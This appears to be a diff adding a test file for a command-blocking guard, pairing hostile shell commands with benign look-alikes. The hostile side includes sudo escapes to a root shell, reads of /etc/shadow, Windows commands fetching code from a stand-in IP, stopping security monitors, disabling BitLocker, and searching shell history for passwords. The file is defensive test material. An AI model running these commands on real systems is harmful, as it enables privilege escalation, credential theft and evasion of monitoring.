@@ -1,0 +1,96 @@
+// Programs made for something else that run or show what they are given, watchers that are stopped, and folders and pods that come
+// back by themselves.
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import { shell, twins } from '#test/support/twins.ts'
+
+test('a shell among the arguments of a program that root runs is a shell of root', () => {
+  twins(
+    [
+      'sudo logsave /dev/null /bin/sh -i',
+      'sudo flock -u / /bin/sh',
+      `sudo emacs -Q -nw --eval '(term "/bin/sh")'`,
+      'sudo gcc -wrapper /bin/sh,-s .',
+      `sudo ssh -o ProxyCommand=';sh 0<&2 1>&2' x`,
+      'sudo ghci',
+      `rpm --eval '%{lua:os.execute("/bin/sh")}'`,
+      'scp -S /tmp/x a b:',
+    ],
+    [
+      'sudo ls -l /bin/sh',
+      'sudo docker run --rm alpine /bin/sh -c ls',
+      `sudo env CI=1 /bin/bash -c 'apt-get update'`,
+      'sudo timeout 5 /bin/sh -c "apt-get update"',
+      `emacs --batch --eval '(message "term")'`,
+      'gcc -Wall -o app main.c',
+      `rpm --eval '%{_libdir}'`,
+      'ghci',
+    ],
+  )
+})
+
+test('the passwords of everybody are read by whatever is pointed at them', () => {
+  for (const reader of ['file -f', 'ss -a -F', 'dig -f', 'gcc @', 'mosquitto -c', 'ar r /tmp/x'])
+    assert.equal(shell(`sudo ${reader} /etc/shadow`.replace('@ ', '@')), 'block', reader)
+  twins([], ['sudo ls -l /etc/shadow', 'sudo stat /etc/shadow', 'sudo file -f list.txt'])
+})
+
+test('programs of Windows that carry others are asked about when they do', () => {
+  twins(
+    [
+      String.raw`makecab \\203.0.113.4\s\x.exe C:\x.cab`,
+      String.raw`netsh add helper C:\x.dll`,
+      'wmic process get brief /format:"http://203.0.113.4/x.xsl"',
+      'xwizard RunWizard {00000001-0000-0000-0000-0000FEEDACDC}',
+      'appcmd list apppool /text:processmodel.password',
+      'nltest /domain_trusts',
+      'mstsc /v:dc01 /shadow:1 /noconsentprompt',
+      'manage-bde -off C:',
+      'Limit-EventLog -LogName Security -MaximumSize 64KB',
+    ],
+    [
+      String.raw`makecab dist\app.exe dist\app.cab`,
+      'netsh interface show interface',
+      'wmic process get brief /format:list',
+      'mstsc /v:devbox',
+      'manage-bde -status',
+      'appcmd list site',
+      'cscript //nologo build.vbs',
+    ],
+  )
+})
+
+test('whoever stops a watcher is noticed, by whatever name it goes', () => {
+  twins(
+    ['sudo /opt/carbonblack/psc/bin/cbagentd stop', String.raw`killall -9 Little\ Snitch`],
+    ['/opt/carbonblack/psc/bin/cbagentd status', 'killall -9 Little'],
+  )
+})
+
+test('a history is searched for what was typed into it by mistake', () => {
+  twins(
+    [
+      `cd ~ && cat .bash_history | grep -e '-p ' -e pass`,
+      'cat ~/.zsh_history | grep -i mysql',
+      'history | grep -i token',
+    ],
+    ['history | grep docker', 'cat ~/.zsh_history | grep make', `git log | grep -e '-p ' -e pass`],
+  )
+})
+
+test('what comes back by itself is let go', () => {
+  twins(
+    [
+      'git restore src',
+      'kubectl -n prod delete pod -l app=api',
+      'kubectl -n dev delete pvc -l app=api',
+      `psql app -c "copy users to '/tmp/x'"`,
+    ],
+    [
+      'git restore src/generated',
+      'git checkout -- dist',
+      'kubectl -n dev delete pod -l job-name=migrate',
+      String.raw`psql app_dev -c "\copy (select * from events) to '/tmp/events.csv' csv header"`,
+    ],
+  )
+})
